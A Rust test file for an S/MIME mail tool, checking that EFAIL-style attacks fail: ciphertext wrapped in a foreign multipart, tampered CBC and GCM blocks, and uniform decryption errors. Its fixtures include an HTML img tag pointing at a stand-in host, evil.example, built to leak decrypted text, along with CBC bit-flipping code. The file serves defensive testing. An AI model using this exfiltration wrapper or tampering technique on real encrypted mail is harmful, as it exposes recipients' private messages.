//! Attacks on encrypted mail: what is decrypted is never joined with what is not, and every failure looks the same.

use serde_json::Value;
use test_support::{Run, Sandbox, corpus::corpus, openssl};

use crate::fixture::{issue, with_ca};

/// A sandbox with Bob, and a message for him.
fn encrypted(cipher: &str) -> Sandbox {
    let sandbox = with_ca();
    issue(&sandbox, "bob@example.com");
    sandbox.write(
        "text",
        "From: alice@example.com\nTo: bob@example.com\nSubject: x\n\nThe secret word is rosebud.\n",
    );
    sandbox
        .line(&format!(
            "mail encrypt --to bob@example.com.crt --cipher {cipher} --out m.eml text"
        ))
        .ok();
    sandbox
}

fn open(sandbox: &Sandbox, file: &str) -> Run {
    sandbox.line(&format!(
        "--format json mail open --identity bob@example.com.p12 --identity-password-file pw --trust root.pem --content out {file}"
    ))
}

fn decrypt(sandbox: &Sandbox, file: &str) -> Run {
    sandbox.line(&format!(
        "--format json mail decrypt --identity bob@example.com.p12 --identity-password-file pw --out out {file}"
    ))
}

/// Nothing of what was encrypted came out.
#[track_caller]
fn assert_kept(sandbox: &Sandbox, run: &Run) {
    assert!(!sandbox.path("out").exists(), "content was written: {run:?}");
    assert!(!run.text().contains("rosebud"), "{run:?}");
}

/// The encrypted entity without the message header, and the header.
fn entity(sandbox: &Sandbox) -> String {
    let text = String::from_utf8(sandbox.read("m.eml")).unwrap();
    let (_, body) = text.split_once("\r\n\r\n").unwrap();
    format!(
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}"
    )
}

fn multipart(kind: &str, parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--out\r\n{part}\r\n")).collect();
    format!(
        "From: alice@example.com\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/{kind}; boundary=out\r\n\r\n{parts}--out--\r\n"
    )
}

const BEFORE: &str = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?";
const AFTER: &str = "Content-Type: text/html\r\n\r\n\">";

#[test]
fn ciphertext_inside_a_foreign_multipart() {
    let sandbox = encrypted("aes-256-cbc");
    for kind in ["mixed", "related", "alternative"] {
        sandbox.write(
            "foreign.eml",
            multipart(kind, &[BEFORE, &entity(&sandbox), AFTER]),
        );
        let run = open(&sandbox, "foreign.eml").fails();
        assert!(run.text().contains("encrypted"), "{run:?}");
        assert_kept(&sandbox, &run);
        let run = decrypt(&sandbox, "foreign.eml").exits(1);
        assert_kept(&sandbox, &run);
    }
}

/// A sender who holds no key changes what a CBC text says: the first block through the initialisation vector, a later one at the
/// price of the block before. Unsigned, it is told that nobody vouches for the text; signed, the change is found
/// and nothing given, but where it hits the header that says that there is a signature.
#[test]
fn changed_cbc_blocks() {
    let sandbox = encrypted("aes-256-cbc");
    issue(&sandbox, "alice@example.com");
    sandbox
        .line(
            "mail sign --identity alice@example.com.p12 --identity-password-file pw --encrypt-to bob@example.com.crt --no-self \
             --out signed.eml text",
        )
        .ok();
    for (file, is_signed) in [("m.eml", false), ("signed.eml", true)] {
        let text = String::from_utf8(sandbox.read(file)).unwrap();
        let (header, _) = text.split_once("\r\n\r\n").unwrap();
        let cms = test_support::base64_body(text.as_bytes());
        let change = |place: usize| {
            let mut changed = cms.clone();
            changed[place] ^= 1;
            let body = String::from_utf8(test_support::base64_lines(&changed)).unwrap();
            sandbox.write("changed.eml", format!("{header}\r\n\r\n{body}"));
            open(&sandbox, "changed.eml")
        };
        let vector = AES_256_CBC.len()
            + cms
                .windows(AES_256_CBC.len())
                .position(|window| window == AES_256_CBC)
                .unwrap();
        // The last octet of the vector changes the sixteenth of the text alone; a block of ciphertext spoils two of the text.
        let content = vector + 16 + 4;
        let places = (content..cms.len())
            .step_by(48)
            .take(if is_signed { 24 } else { 3 });
        let _ = open(&sandbox, file).ok();
        let original = sandbox.read("out");
        std::fs::remove_file(sandbox.path("out")).unwrap();
        let mut refused = 0;
        for place in [vector + 15].into_iter().chain(places) {
            let run = change(place);
            if run.code != Some(0) {
                assert_kept(&sandbox, &run);
                refused += 1;
                continue;
            }
            let json = run.json();
            if json["verdict"] == "valid" {
                // The header and the preamble of a multipart are not signed: what was signed came out.
                assert_eq!(sandbox.read("out"), original);
            } else {
                // Where the change made the signature unrecognisable, no more is claimed than for any unsigned text.
                assert_eq!(json["verdict"], "unsigned", "{json:#}");
                assert!(super::codes(&json).contains(&"not-authenticated"), "{json:#}");
            }
            std::fs::remove_file(sandbox.path("out")).unwrap();
        }
        assert!(!is_signed || refused >= 12, "{refused}");
    }
}

/// The object identifier of aes256-CBC and the head of its initialisation vector.
const AES_256_CBC: &[u8] = b"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2a\x04\x10";

#[test]
fn several_encrypted_parts() {
    let sandbox = encrypted("aes-256-cbc");
    let part = entity(&sandbox);
    sandbox.write("several.eml", multipart("mixed", &[&part, &part]));
    let run = open(&sandbox, "several.eml").fails();
    assert_kept(&sandbox, &run);
    let run = decrypt(&sandbox, "several.eml").exits(1);
    assert_kept(&sandbox, &run);
}

/// What a failure shows: exit code, kind, message, hints.
fn shown(run: &Run) -> (Option<i32>, Value, String) {
    (run.code, run.json()["error"].clone(), run.stderr.clone())
}

#[test]
fn every_failure_to_decrypt_looks_the_same() {
    for cipher in ["aes-256-cbc", "aes-256-gcm"] {
        let sandbox = encrypted(cipher);
        let text = String::from_utf8(sandbox.read("m.eml")).unwrap();
        let (header, body) = text.split_once("\r\n\r\n").unwrap();
        let cms = test_support::base64_body(text.as_bytes());
        assert!(!body.is_empty());
        let mut seen = Vec::new();
        // The wrapped key stands in the first half, the content at the end (before a GCM tag of 16 octets).
        let wrapped = cms
            .windows(11)
            .position(|window| window == b"\x60\x86\x48\x01\x65\x03\x04\x01\x2d\x04\x28")
            .or_else(|| {
                cms.windows(10)
                    .position(|window| window == b"\x60\x86\x48\x01\x65\x03\x04\x01\x2d\x30")
            });
        let mut places = vec![cms.len() - 1, cms.len() - 20, cms.len() - 36];
        places.extend(wrapped.map(|at| at + 100));
        for place in places {
            let mut changed = cms.clone();
            changed[place] ^= 1;
            let body = String::from_utf8(test_support::base64_lines(&changed)).unwrap();
            sandbox.write("changed.eml", format!("{header}\r\n\r\n{body}"));
            let run = decrypt(&sandbox, "changed.eml");
            if run.code == Some(0) {
                // A change of earlier CBC blocks cannot be noticed without a signature: it is told.
                assert_eq!(cipher, "aes-256-cbc");
                std::fs::remove_file(sandbox.path("out")).unwrap();
                continue;
            }
            if run.json()["error"]["kind"] != "decryption-failed" {
                // The place was no octet of key or content.
                continue;
            }
            assert_kept(&sandbox, &run);
            seen.push(shown(&run));
        }
        assert!(seen.len() >= 2, "{cipher}: {seen:?}");
        assert!(seen.iter().all(|one| *one == seen[0]), "{cipher}: {seen:#?}");
    }
}

/// The cases 06 to 08 of the collection below, which has none of them: AES-GCM by OpenSSL as it is, with the content, the tag and
/// the length changed. What was changed gives nothing at all, and no more than that.
#[test]
fn authenticated_content_of_openssl_that_was_changed() {
    let Some(openssl) = openssl() else { return };
    let sandbox = encrypted("aes-256-gcm");
    sandbox.write(
        "entity",
        "Content-Type: text/plain\r\n\r\nThe secret word is rosebud.\r\n",
    );
    for cipher in ["-aes-128-gcm", "-aes-256-gcm"] {
        let line = [
            "cms",
            "-encrypt",
            "-binary",
            "-in",
            "entity",
            cipher,
            "-outform",
            "DER",
            "-out",
            "theirs.der",
        ];
        let recipient = ["-recip", "bob@example.com.crt", "-keyopt", "ecdh_kdf_md:sha256"];
        let _ = openssl
            .run(sandbox.folder(), &[&line[..], &recipient].concat())
            .ok();
        let sound = sandbox.read("theirs.der");
        let message = |cms: &[u8]| {
            format!(
                "From: alice@example.com\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; \
                 smime-type=authEnveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                String::from_utf8(test_support::base64_lines(cms)).unwrap()
            )
        };
        sandbox.write("sound.eml", message(&sound));
        let _ = open(&sandbox, "sound.eml").ok();
        assert!(
            String::from_utf8(sandbox.read("out"))
                .unwrap()
                .contains("rosebud")
        );
        std::fs::remove_file(sandbox.path("out")).unwrap();

        // The tag is the last element of the file: 04 10 and sixteen octets; the content stands before it.
        let tag = sound.len() - 16;
        assert_eq!(sound[tag - 2..tag], [4, 16], "{cipher}");
        let mut seen = Vec::new();
        for place in [tag - 55, tag - 30, tag - 3, tag, sound.len() - 1] {
            let mut changed = sound.clone();
            changed[place] ^= 1;
            sandbox.write("changed.eml", message(&changed));
            for run in [open(&sandbox, "changed.eml"), decrypt(&sandbox, "changed.eml")] {
                let run = run.exits(1);
                assert_eq!(
                    run.json()["error"]["kind"],
                    "decryption-failed",
                    "{cipher} {place}"
                );
                assert_kept(&sandbox, &run);
                seen.push(shown(&run));
            }
        }
        assert!(seen.iter().all(|one| one.1 == seen[0].1), "{seen:#?}");
    }
}

#[test]
fn corpus_efail_generated() {
    let (Some(efail), Some(rfc9216)) = (corpus("efail-generated"), corpus("rfc9216")) else {
        return;
    };
    let sandbox = Sandbox::new(env!("CARGO_BIN_EXE_cachet"));
    let read = |name: &str| std::fs::read(rfc9216.join(name)).unwrap();
    sandbox.write(
        "bob.pem",
        [read("bob.encrypt.key"), read("bob.encrypt.crt")].concat(),
    );
    for (name, expected) in [
        ("00-original", "decrypts"),
        ("01-direct-exfiltration", "encrypted"),
        ("02-cbc-gadget-html", "not-authenticated"),
        ("03-iv-malleability", "not-authenticated"),
        ("04-truncated-block", "decryption-failed"),
        ("05-truncated-byte", "decryption-failed"),
    ] {
        sandbox.write("m.eml", std::fs::read(efail.join(format!("{name}.eml"))).unwrap());
        let run = sandbox.line(
            "--format json --now 2021-03-01T00:00:00Z mail open --identity bob.pem --content out m.eml",
        );
        let json = run.json();
        let written = sandbox.path("out").exists();
        match expected {
            "decryption-failed" => {
                assert_eq!(json["error"]["kind"], expected, "{name}: {json:#}");
                assert_eq!((run.code, written), (Some(1), false), "{name}");
            }
            "encrypted" => {
                assert!(super::codes(&json).contains(&expected), "{name}: {json:#}");
                assert_eq!((run.code, written), (Some(4), false), "{name}");
            }
            _ => {
                // Nobody can tell a changed CBC text without a signature: it is labelled, and never valid.
                assert_eq!(json["verdict"], "unsigned", "{name}: {json:#}");
                assert!(
                    super::codes(&json).contains(&"not-authenticated"),
                    "{name}: {json:#}"
                );
                assert!(super::codes(&json).contains(&"unsigned"), "{name}: {json:#}");
                assert_eq!((run.code, written), (Some(0), true), "{name}");
                std::fs::remove_file(sandbox.path("out")).unwrap();
            }
        }
    }
}
